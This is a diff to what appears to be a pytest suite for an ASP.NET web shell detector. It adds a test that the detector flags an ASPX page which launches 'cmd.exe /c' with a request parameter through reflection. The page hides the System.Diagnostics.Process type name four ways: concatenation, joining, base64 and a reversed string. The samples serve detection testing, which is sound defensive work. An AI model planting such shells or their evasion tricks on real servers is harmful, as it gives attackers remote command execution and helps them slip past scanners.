@@ -571,3 +571,17 @@ def test_registry_write_of_request_values():
 def test_benign_json_deserialise_without_type_names():
     assert_benign('<%@ Page Language="C#" %><% var o = Newtonsoft.Json.JsonConvert.DeserializeObject<Order>('
                   'Request.Form["j"]); Response.Write(o.Id); %>', "x.aspx")
+
+
+_REFLECT = ('<%@ Page Language="C#" %><% Type t = Type.GetType({name}); t.GetMethod("Start", new Type[] {{'
+            ' typeof(string), typeof(string) }}).Invoke(null, new object[] {{ "cmd.exe", "/c " + Request["c"] }}); %>')
+
+
+@pytest.mark.parametrize("name", [
+    'string.Concat("System.Diagn", "ostics.Process")',
+    'string.Join("", new string[] { "System.Diagn", "ostics.Process" })',
+    'System.Text.Encoding.UTF8.GetString(Convert.FromBase64String("U3lzdGVtLkRpYWdub3N0aWNzLlByb2Nlc3M="))',
+    'new string("ssecorP.scitsongaiD.metsyS".Reverse().ToArray())',
+])
+def test_reflective_process_start_with_a_built_type_name(name):
+    assert_shell(_REFLECT.format(name=name), "x.aspx")
